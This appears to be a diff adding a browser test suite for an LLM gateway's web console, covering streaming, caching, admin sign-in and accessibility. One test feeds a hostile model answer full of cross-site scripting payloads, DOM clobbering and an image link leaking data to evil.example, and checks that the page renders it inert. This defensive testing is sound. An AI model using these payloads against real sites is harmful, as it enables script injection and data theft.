@@ -1,0 +1,269 @@
+"""The console in a real browser: Debian's headless Chromium.
+
+Where it is not installed (`apt-get install chromium`) these are skipped.
+"""
+
+from __future__ import annotations
+
+import asyncio
+from collections.abc import AsyncIterator
+from contextlib import asynccontextmanager
+from pathlib import Path
+from typing import Any
+from urllib.parse import urlsplit
+
+import pytest
+from browser import CHROMIUM, Browser, Page, chromium
+from local_cache import local_cache
+from scripted_member import Member, chunk, listening, says
+from support.gateway import ADMIN, DONE, Running, SimSettings, gateway
+from support.graph import ADMIN_TOKEN, eventually
+
+pytestmark = pytest.mark.skipif(CHROMIUM is None, reason="no `chromium` (Debian: apt-get install chromium)")
+
+STREAMING = SimSettings(itl_ms=25, tokens=40)
+QUICK = SimSettings(itl_ms=0, tokens=6)
+ENTER = 13
+DONE_ANSWERS = "document.querySelectorAll('.answer[data-done=yes]').length"
+FIRST_PAINT_MS = 500
+MOST_REQUESTS = 6
+
+HOSTILE = """
+<script>window.owned = 1</script><img src=x onerror="window.owned = 2"><svg onload="window.owned = 3"></svg>
+<iframe srcdoc="<script>parent.owned = 4</script>"></iframe><style>body { display: none }</style>
+<form action="http://evil.example/"><input name=token></form><a href="javascript:window.owned = 5">press</a>
+
+[a](javascript:window.owned=6) [b](data:text/html,<script>window.owned=7</script>)
+[c](JaVaScRiPt&colon;window.owned=8)
+![secret](http://evil.example/leak?q=secret) [fine](https://example.com/x)
+<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.owned=9&gt;">
+<a id="app" name="ROOT" href="http://evil.example/">clobber</a>
+
+| table | <b onclick="window.owned=10">b</b> |
+|---|---|
+| `code` | **strong** |
+"""
+
+
+@pytest.fixture
+async def browser(tmp_path: Path) -> AsyncIterator[Browser]:
+    async with chromium(tmp_path / "profile") as browser:
+        yield browser
+
+
+@asynccontextmanager
+async def console(browser: Browser, running: Running, **look: Any) -> AsyncIterator[Page]:
+    """The console's page. At its end nothing of it was refused or has failed, and it has asked nobody but the
+    gateway."""
+    async with browser.page(f"{running.url}/console", **look) as page:
+        await page.until("document.querySelector('nav a') !== null")
+        yield page
+        hosts = {urlsplit(url).netloc for url in page.requests if not url.startswith("data:")}
+        assert hosts == {urlsplit(running.url).netloc}
+        # That a request is refused is what some tests are about; Chromium logs each.
+        assert [text for text in page.complaints if not text.startswith("Failed to load resource")] == []
+
+
+async def ask(page: Page, text: str) -> None:
+    """In the playground; until the answer is complete."""
+    await page.until("document.querySelector('.composer[data-ready=yes]') !== null")
+    before = await page.value(DONE_ANSWERS)
+    await page.type("#prompt", text)
+    await page.press("Enter", ENTER)
+    await page.until(f"{DONE_ANSWERS} > {before}")
+
+
+async def sign_in(page: Page, token: str = ADMIN_TOKEN) -> None:
+    await page.type("#token", token)
+    await page.press("Enter", ENTER)
+
+
+async def go(page: Page, name: str) -> None:
+    await page.value(f"location.hash = '#/{name}'")
+    await page.until(f"document.querySelector('nav a[aria-current]').hash === '#/{name}'")
+
+
+async def test_the_console_paints_at_once_with_few_requests_and_streams_an_answer(browser: Browser) -> None:
+    async with gateway(STREAMING) as running, console(browser, running) as page:
+        await page.until("document.querySelector('.composer[data-ready=yes]') !== null")
+        paint = await page.value("performance.getEntriesByName('first-contentful-paint')[0].startTime")
+        assert paint <= FIRST_PAINT_MS * 4  # a busy machine; the figure itself is a benchmark's
+        assert len([url for url in page.requests if url.startswith("http")]) <= MOST_REQUESTS
+        await page.type("#prompt", "tell me something")
+        await page.press("Enter", ENTER)
+        lengths = set()
+        while not await page.value(f"{DONE_ANSWERS} > 0"):
+            lengths.add(
+                await page.value("document.querySelector('.answer .markdown')?.textContent.length ?? 0")
+            )
+            await asyncio.sleep(0.02)
+        assert len(lengths) > 2, "it came at once"
+        facts = await page.value("document.querySelector('.facts').innerText")
+        assert "tok/s" in facts
+        assert "first token" in facts
+        steps = await page.value(
+            "[...document.querySelectorAll('.waterfall tbody th')].map((e) => e.innerText)"
+        )
+        assert {"admit", "upstream-ttft", "tokens"} <= set(steps)
+
+
+async def test_a_hit_shows_its_similarity_and_a_wrong_answer_is_reported(
+    browser: Browser, folder: Path
+) -> None:
+    async with (
+        local_cache(folder, race=False) as cache,
+        gateway(QUICK, handles=cache.handles, **cache.args) as running,
+        console(browser, running) as page,
+    ):
+        await ask(page, "what is the capital of france")
+        await ask(page, "what is the capital of france")
+        await page.until("document.querySelector('.answer[data-cache=exact]') !== null")
+
+        async def stored() -> bool:
+            return bool((await running.get("/admin/cache"))["entries"])
+
+        assert await eventually(stored, within_s=10)
+        await ask(page, "the capital of france is what")
+        facts = await page.until("document.querySelector('.answer[data-cache=semantic] .facts')?.innerText")
+        assert "similarity 1.0000" in facts.replace("\n", " ")
+
+        await page.click(".judge button.danger")
+        await sign_in(page)
+        await page.until("document.querySelector('.sign-in') === null")
+        await go(page, "cache")
+        await page.click("#near-hits .judge button.danger")
+        await page.until("document.querySelector('#near-hits .judged')?.innerText.startsWith('Reported')")
+        stats = await running.get("/admin/cache")
+        assert (stats["reported_wrong"], stats["entries"]) == (1, 0)
+
+
+async def test_what_a_model_writes_stays_inert(browser: Browser) -> None:
+    member = Member(says(chunk(HOSTILE), chunk("", finish_reason="stop", delta={}), DONE))
+    async with (
+        listening(member),
+        gateway(others=[member.upstream()]) as running,
+        console(browser, running) as page,
+    ):
+        await ask(page, "attack me")
+        found = await page.value(
+            """(() => {
+                const box = document.querySelector('.answer .markdown');
+                for (const link of box.querySelectorAll('a:not([href^="https:"])')) link.click();
+                const all = [...box.querySelectorAll('*')];
+                return {
+                    owned: window.owned ?? null,
+                    tags: [...new Set(all.map((e) => e.tagName))],
+                    handlers: all.flatMap((e) => [...e.attributes]).filter((a) => /^on/.test(a.name)).length,
+                    links: [...box.querySelectorAll('a[href]')].map((a) => [a.getAttribute('href'), a.rel]),
+                    ids: all.filter((e) => e.id || e.getAttribute('name')).length,
+                    shown: box.innerText.includes('window.owned = 1'),
+                    table: box.querySelectorAll('td strong').length,
+                }; })()"""
+        )
+        assert found["owned"] is None
+        assert {"SCRIPT", "IMG", "SVG", "IFRAME", "STYLE", "FORM", "INPUT", "MATH"}.isdisjoint(found["tags"])
+        assert (found["handlers"], found["ids"]) == (0, 0)
+        assert found["links"] == [["https://example.com/x", "noopener noreferrer nofollow"]]
+        assert found["shown"], "raw HTML is shown as text"
+        assert found["table"] == 1
+        # The policy refuses what would come of a mistake of the page's own.
+        refused = await page.value(
+            """(async () => {
+                const seen = {}, script = document.createElement('script');
+                const attempt = async (name, work) => {
+                    try { await work(); seen[name] = 'done'; } catch (e) { seen[name] = e.name; } };
+                await attempt('html', () => { document.body.innerHTML = '<b>x</b>'; });
+                await attempt('fetch', () => fetch('http://evil.example/'));
+                await attempt('script', () => { script.text = 'window.owned = 11'; });
+                return [seen, window.owned ?? null]; })()"""
+        )
+        assert refused == [{"html": "TypeError", "fetch": "TypeError", "script": "TypeError"}, None]
+        page.complaints.clear()
+        page.requests[:] = [url for url in page.requests if "evil.example" not in url]
+
+
+async def test_an_administrator_signs_in_and_sees_a_chart_that_moves(browser: Browser) -> None:
+    async with gateway(QUICK) as running, console(browser, running) as page:
+        await go(page, "live")
+        await sign_in(page, "the-wrong-token-of-somebody")
+        await page.until("document.querySelector('.sign-in .error') !== null")
+        await page.value("document.querySelector('#token').value = ''")
+        await page.value(
+            "document.querySelector('#token').dispatchEvent(new Event('input', {bubbles: true}))"
+        )
+        await sign_in(page)
+        await page.until("document.querySelector('.chart canvas') !== null")
+        points = "Number(document.querySelector('.chart').dataset.points)"
+        before = await page.value(points)
+        pixels = "document.querySelector('.chart canvas').toDataURL()"
+        drawn = await page.value(pixels)
+        for _ in range(5):
+            await running.post("hi")
+        await page.until(f"{points} > {before} + 1")
+        assert await page.value(pixels) != drawn
+        # The token is in this tab only, and nowhere that outlives it.
+        assert await page.value("[Object.keys(localStorage).length, document.cookie]") == [0, ""]
+        assert ADMIN_TOKEN not in await page.value("document.documentElement.outerHTML")
+        await page.click("#sign-out")
+        await page.until("document.querySelector('.sign-in') !== null")
+
+
+async def test_requests_are_listed_opened_by_keyboard_and_replayed(browser: Browser) -> None:
+    async with gateway(QUICK) as running, console(browser, running) as page:
+        await ask(page, "what is the time")
+        await go(page, "requests")
+        await sign_in(page)
+        await page.until("document.querySelectorAll('.log tbody tr').length === 1")
+        await page.value("document.querySelector('[data-request]').focus()")
+        await page.press("Enter", ENTER)
+        await page.until("document.querySelector('.detail .waterfall') !== null")
+        text = await page.value("document.querySelector('.detail').innerText")
+        assert "own overhead" in text
+        await page.click(".detail button.primary")
+        await page.until("document.querySelector('.detail .answer[data-done=yes]') !== null")
+        await page.until("document.querySelectorAll('.log tbody tr').length === 2")
+        await page.press("Escape")
+        assert len(running.requests()) == 1
+        assert running.requests() == [2]
+
+
+async def test_two_models_answer_side_by_side_where_keys_are_used(browser: Browser) -> None:
+    async with (
+        gateway(QUICK, tenants=("a",), model={"aliases": ["other"]}) as running,
+        console(browser, running) as page,
+    ):
+        await page.until("document.querySelector('.sign-in') !== null")
+        await sign_in(page, running.keys["a"])
+        await page.click("#side-by-side")
+        await ask(page, "hi both")
+        await page.until("document.querySelectorAll('.answers.n2 .answer[data-done=yes]').length === 2")
+        await go(page, "fleet")
+        await page.until("document.querySelector('.sign-in .error') !== null")
+        await page.value("sessionStorage.clear()")
+        await page.type("#token", running.keys[ADMIN])
+        assert "admin" in await page.value("document.querySelector('.sign-in').innerText")
+
+
+@pytest.mark.parametrize("dark", [False, True], ids=["light", "dark"])
+async def test_on_a_phone_nothing_is_cut_off_and_every_control_has_a_name(
+    browser: Browser, dark: bool
+) -> None:
+    async with (
+        gateway(QUICK) as running,
+        console(browser, running, width=375, height=740, phone=True, dark=dark) as page,
+    ):
+        await ask(page, "hello " + "a-very-long-word" * 30)
+        for name in ("playground", "requests", "live", "fleet", "cache", "alerts"):
+            await go(page, name)
+            if name == "requests":
+                await sign_in(page)
+                await page.until("document.querySelector('.log') !== null")
+            assert await page.value("document.documentElement.scrollWidth") <= 375, name
+            unnamed = await page.value(
+                """[...document.querySelectorAll('button, a[href], input, select, textarea')].filter((e) =>
+                !(e.innerText || '').trim() && !e.getAttribute('aria-label') && !(e.labels && e.labels.length
+                && [...e.labels].some((l) => l.innerText.trim()))).map((e) => e.outerHTML)"""
+            )
+            assert unnamed == [], name
+        ground = await page.value("getComputedStyle(document.body).backgroundColor")
+        assert (sum(map(int, ground.removeprefix("rgb(").removesuffix(")").split(","))) < 200) is dark
